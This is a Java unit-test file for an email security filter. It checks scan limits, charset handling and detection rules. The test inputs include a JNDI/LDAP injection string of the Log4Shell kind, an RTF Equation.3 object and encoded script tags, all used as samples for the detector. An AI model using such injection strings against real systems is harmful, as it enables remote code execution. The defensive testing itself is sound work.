// Copyright the Postern authors
// SPDX-License-Identifier: Apache-2.0
package org.postern.filter.shield.internal.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.postern.filter.Anomaly;
import org.postern.filter.Stage;
import org.postern.filter.shield.internal.ShieldFilter;
import org.postern.filter.shield.internal.Shields;
import org.postern.filter.shield.internal.build.HitList;
import org.postern.filter.shield.internal.rule.BuiltInRules;
import org.postern.filter.shield.internal.rule.Hits;
import org.postern.filter.shield.internal.rule.RuleAction;
import org.postern.testkit.TestTransaction;

class MessageCheckTest {

  private static final String PART = "--b\nContent-Type: text/html\n\n%s\n";
  private static final int MIB = 1 << 20;

  private static List<String> rules(ShieldFilter filter, String eml) throws Exception {
    try (TestTransaction transaction = TestTransaction.at(Stage.MESSAGE).eml(eml).build()) {
      return transaction.rulesOf(filter);
    }
  }

  private static String html(int parts, int size) {
    String text = "text of a letter\n".repeat(size / 17);
    return "Content-Type: multipart/mixed; boundary=b\n\n"
        + String.format(PART, text).repeat(parts)
        + "--b--\n";
  }

  @Test
  void partAboveItsLimitIsNoSilentPass() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("max_part", 1));
    assertThat(rules(filter, html(1, 2 * MIB))).containsExactly("shield.scan-limit");
    assertThat(rules(filter, html(1, MIB / 2))).isEmpty();
  }

  @Test
  void partsTogetherHaveALimitToo() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("max_message", 1));
    assertThat(rules(filter, html(3, MIB / 2))).containsExactly("shield.scan-limit");
    assertThat(rules(filter, html(3, MIB / 4))).isEmpty();
  }

  @Test
  void partBehindOneThatIsTooLargeIsStillExamined() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("max_part", 1));
    String eml = html(1, 2 * MIB).replace("--b--", String.format(PART, "<script>") + "--b--");
    assertThat(rules(filter, eml)).containsExactly("shield.scan-limit", "shield.html-script");
  }

  @Test
  void headersOfPartsBeyondTheLimitAreRefused() throws Exception {
    String fields = ("X-A: " + "a".repeat(900) + "\n").repeat(200);
    String part = "--b\n" + fields + "\nx\n";
    String eml = "Content-Type: multipart/mixed; boundary=b\n\n" + part.repeat(30) + "--b--\n";
    assertThat(rules(Shields.withDefaults(), eml)).contains("shield.mime-limit-header-section");
  }

  @Test
  void contentCountsWhateverTheTypeSays() throws Exception {
    String eml =
        "Content-Type: image/png; name=a.png\n\n{\\rtf1{\\object{\\*\\objclass Equation.3}}}\n";
    assertThat(rules(Shields.withDefaults(), eml)).containsExactly("shield.rtf-equation");
  }

  @Test
  void partIsReadInAllWaysThatFit() throws Exception {
    String eml =
        "Content-Type: text/html\n\n{\\rtf1{\\object{\\*\\objclass None}}}<script>a()</script>\n";
    assertThat(rules(Shields.withDefaults(), eml))
        .containsExactlyInAnyOrder("shield.rtf-no-class", "shield.html-script");
  }

  @Test
  void htmlIsReadInItsCharset() throws Exception {
    String coded = "<\u0000s\u0000c\u0000r\u0000i\u0000p\u0000t\u0000>\u0000";
    String eml = "Content-Type: text/html; charset=utf-16le\nX: y\n\n" + coded;
    assertThat(rules(Shields.withDefaults(), eml)).contains("shield.html-script");
  }

  @Test
  void unknownCharsetIsNoWayOut() throws Exception {
    String eml = "Content-Type: text/html; charset=\"no such\"\n\n<script>a()</script>\n";
    assertThat(rules(Shields.withDefaults(), eml)).contains("shield.html-script");
  }

  @Test
  void textIsFoundAcrossTheEdgesOfPieces() throws Exception {
    for (int shift = 0; shift < 30; shift += 7) {
      String filler = ("x".repeat(62) + "\n").repeat(520) + "y".repeat(shift);
      String eml = "Subject: x\n\n" + filler + "${jndi:ldap://192.0.2.7/a}\n" + filler;
      assertThat(rules(Shields.withDefaults(), eml)).containsExactly("shield.jndi-in-text");
    }
  }

  @Test
  void newKindOfAnomalyIsReportedInGeneral() {
    List<Anomaly> anomalies =
        List.of(
            new Anomaly(Anomaly.Kind.BAD_BASE64, "1", "x"),
            new Anomaly(Anomaly.Kind.LIMIT_MIME_DEPTH, "", "y"));
    Hits hits = new Hits(BuiltInRules.read(), Optional.empty());
    new MimeDoubts(
            BuiltInRules.read()
                .with(
                    Map.of(
                        "mime-bad-base64",
                        RuleAction.OFF,
                        "mime-limit-mime-depth",
                        RuleAction.OFF)))
        .look(anomalies, hits);
    assertThat(hits.findings().findings())
        .extracting(finding -> finding.rule())
        .containsExactly("shield." + MimeDoubts.OTHER, "shield." + MimeDoubts.OTHER_LIMIT);
  }

  @Test
  void detailAndPartOfAnAnomalyAreTold() {
    HitList list = new HitList();
    Anomaly anomaly = new Anomaly(Anomaly.Kind.BAD_CHARSET, "1.2", "charset=\"\"");
    new MimeDoubts(BuiltInRules.read()).look(List.of(anomaly), list.hits());
    assertThat(list.hits().findings().findings().get(0).sentence())
        .contains("charset=\"\", part 1.2");
  }
}
